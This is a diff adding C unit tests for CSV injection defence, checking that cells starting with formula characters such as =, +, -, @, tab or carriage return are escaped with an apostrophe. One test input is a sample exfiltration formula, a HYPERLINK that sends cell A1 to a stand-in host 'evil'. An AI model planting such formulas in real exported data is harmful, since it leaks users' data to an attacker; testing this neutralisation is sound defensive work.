@@ -228,6 +228,24 @@ static void test_escaping(void) {
   ck_csv_field(&b, "", 0);
   STR_EQ(ck_buf_cstr(&b), "\"say \"\"hi\"\", ok\",\"\"", "CSV fields through libcsv");
 
+  /* CSV injection: cells a spreadsheet would run as formulas, or strip to
+     reach one, start with an apostrophe; others, and a sign inside, stay. */
+  const char *formulas[][2] = {
+      {"=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\""},
+      {"+1+2", "\"'+1+2\""},
+      {"-2+3", "\"'-2+3\""},
+      {"@SUM(A1)", "\"'@SUM(A1)\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\r=1\""},
+      {"a=1", "\"a=1\""},
+      {"'=1", "\"'=1\""},
+  };
+  for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
+    ck_buf_reset(&b);
+    ck_csv_field(&b, formulas[i][0], strlen(formulas[i][0]));
+    STR_EQ(ck_buf_cstr(&b), formulas[i][1], "CSV field that could be a formula");
+  }
+
   ck_buf_reset(&b);
   char big[1200];
   memset(big, '"', sizeof big - 1);
